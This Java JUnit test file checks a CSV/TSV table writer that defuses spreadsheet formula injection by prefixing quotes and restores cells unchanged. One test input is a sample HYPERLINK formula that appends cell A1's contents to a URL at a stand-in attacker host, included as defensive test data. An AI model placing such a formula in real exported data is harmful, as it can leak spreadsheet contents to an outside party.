package org.paraterm;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

/** Table cells written so that no spreadsheet takes them for a formula, and read back unchanged. */
class TableFileTest {

    @Test
    void shouldPutAQuoteBeforeEveryCellThatWouldStartAFormulaAndQuoteItInCsv() {
        assertThat(TableFile.CSV.row("=SUM(A1:A9)", "+86 10 1234", "-2 洗钱", "@SUM(1+1)", "\tcmd", "\rcmd", "洗钱"))
                .isEqualTo("\"'=SUM(A1:A9)\",\"'+86 10 1234\",\"'-2 洗钱\",\"'@SUM(1+1)\",\"'\tcmd\",\"'\rcmd\",洗钱\r\n");
        assertThat(TableFile.TSV.row("=SUM(A1:A9)", "-2\t洗钱", "\tcmd", "a=b", "2019-20"))
                .isEqualTo("'=SUM(A1:A9)\t'-2 洗钱\t cmd\ta=b\t2019-20\n");
    }

    @Test
    void shouldGiveEveryCellBackAsItWasWhateverQuotesItBeganWith() {
        for (String cell : List.of("=1+1", "'=1+1", "''=1+1", "'", "''", "'quoted", "-", "@", "", "洗钱", "a'=b",
                "'\t", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")) {
            assertThat(TableFile.original(TableFile.neutralised(cell))).as(cell).isEqualTo(cell);
        }
        assertThat(TableFile.neutralised("'=1+1")).isEqualTo("''=1+1");
        assertThat(TableFile.neutralised("'quoted")).isEqualTo("'quoted");
        assertThat(TableFile.original("'quoted")).isEqualTo("'quoted");
    }
}
